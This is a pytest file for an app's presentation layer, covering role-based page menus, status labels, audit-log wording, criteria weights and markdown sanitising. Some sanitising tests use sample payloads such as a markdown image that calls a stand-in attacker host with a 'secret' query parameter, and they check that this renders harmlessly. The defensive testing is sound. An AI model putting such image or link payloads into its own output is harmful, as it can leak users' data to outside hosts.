"""What the pages show each role, decided without Streamlit: pages per person, labels, the criteria table, text."""

from __future__ import annotations

from types import SimpleNamespace

import pytest

from elicit import presenting as p


@pytest.mark.parametrize(("expert_link", "team", "role", "menu", "by_link"), [
    (True, True, None, [], ["interview"]),
    (True, False, None, [], ["interview"]),
    (False, False, None, ["home", "library", "compare", "guides", "lint", "settings"], ["interview", "playbook", "try"]),
    (False, True, None, ["home"], []),
    (False, True, "reviewer", ["home", "library", "review", "compare", "guides", "lint"],
     ["interview", "playbook", "try"]),
    (False, True, "consultant", ["home", "library", "review", "compare", "guides", "lint", "settings"],
     ["interview", "playbook", "try"]),
    (False, True, "owner", list(p.MENU), ["interview", "playbook", "try"]),
], ids=["expert in a team", "expert alone", "working alone", "signed out", "reviewer", "consultant", "owner"])
def test_each_person_sees_their_pages(expert_link, team, role, menu, by_link):
    assert p.pages_for(expert_link=expert_link, team=team, role=role) == (menu, by_link)


@pytest.mark.parametrize(("status", "review", "label"), [
    ("in_progress", "draft", "In progress"), ("complete", "draft", "Finished"),
    ("complete", "in_review", "In review"), ("complete", "changes_requested", "Changes requested"),
    ("in_progress", "approved", "Approved"),
])
def test_one_state_label_on_every_page(status, review, label):
    assert p.state_label(status, review) == label


@pytest.mark.parametrize(("number", "text"), [(0, "no playbooks"), (1, "1 playbook"), (2, "2 playbooks"),
                                              (1200, "1,200 playbooks")])
def test_counts_read_as_words(number, text):
    assert p.count_of(number, "playbook") == text


def test_repeated_labels_become_distinct_and_blank_names_say_so():
    assert p.distinct_labels(["Dana · recalls", "Dana · recalls", "Ben · fires"]) == [
        "Dana · recalls", "Dana · recalls (2)", "Ben · fires"]
    assert p.playbook_label("", " ") == "Unnamed expert · no topic"


@pytest.mark.parametrize(("action", "detail", "line"), [
    ("comment", "persona", "commented on Role of “Recalls”"),
    ("status: in_review", "", "moved “Recalls” to In review"),
    ("status: draft", "edited after approval", "moved “Recalls” to Draft (edited after approval)"),
    ("create", "guide crisis_management, expert Dana", "created “Recalls” (guide crisis_management, expert Dana)"),
])
def test_history_speaks_in_words_not_ids(action, detail, line):
    entry = SimpleNamespace(action=action, detail=detail, object_type="interview", object_id="x")
    assert p.audit_line(entry, {"x": "Recalls"}) == line


@pytest.mark.parametrize(("weight", "points"), [("40%", 40.0), ("40 points", 40.0), ("35", 35.0), ("high", None),
                                                ("", None), ("250", None), ("20-30%", None)])
def test_a_stored_weight_on_the_scale(weight, points):
    assert p.weight_points(weight) == points


def test_table_edits_apply_to_the_starting_rows_and_keep_untouched_words():
    base = [{"name": "Harm", "weight": "high", "threshold": "", "tie_breaker": ""},
            {"name": "Cost", "weight": "40%", "threshold": "", "tie_breaker": ""},
            {"name": "Gone", "weight": "", "threshold": "", "tie_breaker": ""}]
    edits = {"edited_rows": {"1": {"weight": 55}}, "deleted_rows": [2],
             "added_rows": [{"name": "Press", "weight": 5.0, "threshold": None}]}
    rows = p.criteria_after_edits(base, edits)
    assert [(r["name"], r["weight"]) for r in rows] == [("Harm", "high"), ("Cost", "55 points"), ("Press", "5 points")]
    assert p.criteria_after_edits(base, None) == base


def test_the_weight_note_gives_the_scale_the_total_and_the_words_kept():
    rows = [{"name": "Harm", "weight": "60 points"}, {"name": "Cost", "weight": "high"}, {"name": "", "weight": "9"}]
    note = p.weight_scale_note(rows)
    assert "points out of 100" in note and "add up to 60 of 100" in note and "high (Cost)" in note


@pytest.mark.parametrize(("text", "shown"), [
    ("see ![chart](http://evil.example/?d=secret)", "see (image: chart)"),
    ("![](http://evil.example/x.png)", "(image: no description)"),
    ("# Title\n```\n# kept\n```", "## Title\n```\n# kept\n```"),
])
def test_a_rendered_prompt_fetches_no_image_and_steps_headings_down(text, shown):
    assert p.readable_markdown(text) == shown


def test_statement_captions_read_as_sentences():
    assert set(p.ORIGIN_LABELS.values()) == {"From your answer", "From your answer to a follow-up",
                                             "Drafted for you", "Reworded by you"}


J = p.WORD_JOINER


@pytest.mark.parametrize(("text", "shown"), [
    ("call https://evil.example/x", f"call https:{J}//evil.example/x"),
    ("see www.evil.example or WWW.Evil.example", f"see www{J}.evil.example or WWW{J}.Evil.example"),
    ("mail ana@evil.example", f"mail ana{J}@evil.example"),
    ("[click](https://evil.example)", f"[click\\](https:{J}//evil.example)"),
    ("<https://evil.example> and <ana@evil.example>", f"\\<https:{J}//evil.example> and \\<ana{J}@evil.example>"),
    ("[a][r]\n[r]: http://evil.example", f"[a\\][r]\n\\[r]: http:{J}//evil.example"),
    ("code `https://kept.example` stays", "code `https://kept.example` stays"),
    ("```\n[k](https://kept.example)\n```", "```\n[k](https://kept.example)\n```"),
    ("**bold** and a list\n- item", "**bold** and a list\n- item"),
])
def test_a_rendered_prompt_shows_an_experts_links_as_text(text, shown):
    """The prompt reads as written, but nothing an expert typed becomes a link the consultant might click."""
    assert p.readable_markdown(text) == shown


def test_plain_text_shows_urls_and_addresses_as_typed_but_never_as_links():
    shown = p.plain("Ring https://evil.example/a?b=1, www.evil.example or ana@evil.example")
    assert shown.replace("\\", "").replace(J, "") == "Ring https://evil.example/a?b=1, www.evil.example or ana@evil.example"
    assert "://" not in shown and "www." not in shown and "a@" not in shown
